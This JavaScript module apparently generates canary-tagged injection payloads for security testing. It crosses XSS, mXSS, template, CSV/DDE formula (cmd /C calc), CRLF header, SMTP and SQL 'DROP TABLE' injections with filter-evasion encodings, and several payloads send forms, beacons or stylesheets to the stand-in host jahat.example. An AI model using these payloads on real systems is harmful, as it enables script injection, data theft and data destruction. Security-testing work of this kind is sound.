// What people type who want a page, a file or a mail to do their work: a table of places to break out of, times a table of
// disguises. Each carries a number of its own, so that whatever comes to life says which it was.
// Exports: PAYLOADS, CANARY, HOST, Supply.
//
//   const supply = new Supply();
//   supply.line('subject', 150);       // the next payload for this field that fits
//   supply.lines('narrative', 8000);   // as many as fit, a line each
export const CANARY = 'kenari';
export const HOST = 'jahat.example';

// n: the number of the payload.
const PLACES = [
  (n) => `<script id="kenari-${n}">alert('kenari-${n}')</script>`,
  (n) => `"><script id=kenari-${n}>alert('kenari-${n}')</script>`,
  (n) => `'><img id=kenari-${n} src=x onerror=alert('kenari-${n}')>`,
  (n) => `<img id=kenari-${n} src=https://jahat.example/kenari-${n}>`,
  (n) => `<svg id=kenari-${n} onload=alert('kenari-${n}')><animate onbegin=alert(1)>`,
  (n) => `" onfocus="alert('kenari-${n}')" autofocus data-kenari="${n}`,
  (n) => `' onmouseover='alert(${n})' data-kenari='${n}`,
  (n) => `kenari-${n} onpointerenter=alert(${n}) data-kenari=${n}`,
  (n) => `</textarea><script id=kenari-${n}>alert('kenari-${n}')</script>`,
  (n) => `</title></head><body id=kenari-${n} onload=alert('kenari-${n}')>`,
  (n) => `</option></select><img id=kenari-${n} src=x onerror=alert('kenari-${n}')>`,
  (n) => `</style></script><b id=kenari-${n}>x</b>`,
  (n) => `--><b id=kenari-${n}>x</b><!--`,
  (n) => `]]><b id=kenari-${n}>x</b><!DOCTYPE x [<!ENTITY k "kenari-${n}">]>`,
  (n) => `<iframe id=kenari-${n} src="javascript:alert('kenari-${n}')"></iframe>`,
  (n) => `<iframe id=kenari-${n} srcdoc="<script>parent.kenari=${n}</script>"></iframe>`,
  (n) => `<a id=kenari-${n} href="javascript:alert('kenari-${n}')">buka</a>`,
  (n) => `<base id=kenari-${n} href=https://jahat.example/kenari-${n}/>`,
  (n) => `<meta id=kenari-${n} http-equiv=refresh content="0;url=https://jahat.example/kenari-${n}">`,
  (n) => `<link id=kenari-${n} rel=stylesheet href=https://jahat.example/kenari-${n}>`,
  (n) => `</form><form id=kenari-${n} action=https://jahat.example/kenari-${n}><button>Lanjut</button>`,
  (n) => `<style id=kenari-${n}>@import 'https://jahat.example/kenari-${n}'</style>`,
  (n) => `<math id=kenari-${n}><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`,
  (n) => `{{{kenari-${n}}}}{{>partials/notice}}{{=<% %>=}}<b id=kenari-${n}>`,
  (n) => `';alert('kenari-${n}');//\${alert(${n})}`,
  (n) => `=HYPERLINK("https://jahat.example/kenari-${n}";"kenari-${n}")`,
  (n) => `@SUM(1+1)*cmd|' /C calc'!A0 kenari-${n}`,
  (n) => `kenari-${n}\r\nSet-Cookie: kenari=${n}\r\n\r\n<b id=kenari-${n}>x</b>`,
  (n) => `kenari-${n}\r\n.\r\nRCPT TO:<kenari-${n}@jahat.example>\r\nBEGIN:VALARM\r\nATTACH:https://jahat.example/`,
  (n) => `kenari-${n}'); DROP TABLE cases; -- [kenari-${n}](javascript:alert(${n}))`,
];

const MARKS = /[<>"'&]/g;
const coded = (text, code) => text.replace(MARKS, (mark) => code(mark.codePointAt(0)));
const hex = (number, digits) => number.toString(16).padStart(digits, '0');

// How the marks are dressed so that a filter overlooks them and a later reader undresses them.
const DISGUISES = [
  (text) => text,
  (text) => text.replace(/<\/?\w+|on\w+=/g, (name) => [...name].map((letter, i) => (i % 2 ? letter.toUpperCase() : letter)).join('')),
  (text) => text.replace(/ /g, '\n'),
  (text) => text.replace(/ /g, '\t'),
  (text) => text.replace(/ (?=\w+=)/g, '/'),
  (text) => `"'>${text}`,
  (text) => `<<${text}>>`,
  (text) => text.replace(/>$/, ''),
  (text) => text.replace(/[<"]/g, (mark) => `${mark}\u200b`),
  (text) => `\u202e${text}\u2066`,
  (text) => coded(text, (code) => `&#${code};`),
  (text) => coded(text, (code) => `&#x${hex(code, 6)}`),
  (text) => coded(text, (code) => ({ 60: '&lt;', 62: '&gt;', 34: '&quot;', 39: '&apos;', 38: '&amp;' }[code])),
  (text) => coded(text, (code) => `&amp;#${code};`),
  (text) => coded(text, (code) => `%${hex(code, 2)}`),
  (text) => coded(text, (code) => `%25${hex(code, 2)}`),
  (text) => coded(text, (code) => `\\u${hex(code, 4)}`),
  (text) => coded(text, (code) => String.fromCodePoint(code + 0xfee0)),
  (text) => coded(text, (code) => ({ 60: '+ADw-', 62: '+AD4-', 34: '+ACI-', 39: '+ACc-', 38: '+ACY-' }[code])),
  (text) => text.replace(/["']/g, (mark) => `\\${mark}`),
];

export const PAYLOADS = DISGUISES.flatMap((disguise, i) => PLACES.map((place, j) => disguise(place(i * PLACES.length + j + 1))));

// Deals the payloads out: every field begins at a place of its own and goes round.
export class Supply {
  constructor() {
    this.next = new Map();
    this.given = new Map(); // field: the payloads it got
  }

  take(field, most) {
    for (let i = 0; i < PAYLOADS.length; i += 1) {
      const at = this.next.get(field) ?? (this.next.size * 37) % PAYLOADS.length;
      this.next.set(field, (at + 1) % PAYLOADS.length);
      if ([...PAYLOADS[at]].length <= most) return PAYLOADS[at];
    }
    return CANARY.slice(0, most);
  }

  note(field, payload) {
    if (!this.given.has(field)) this.given.set(field, new Set());
    this.given.get(field).add(payload);
    return payload;
  }

  line(field, most) {
    return this.note(field, this.take(field, most));
  }

  lines(field, most) {
    let text = '';
    for (;;) {
      const before = this.next.get(field);
      const payload = this.take(field, most);
      if ([...text].length + 2 * payload.length + 2 > most && text) {
        this.next.set(field, before);
        return text;
      }
      text += (text && '\n') + this.note(field, payload);
      if ([...text].length > most * 0.9) return text;
    }
  }
}
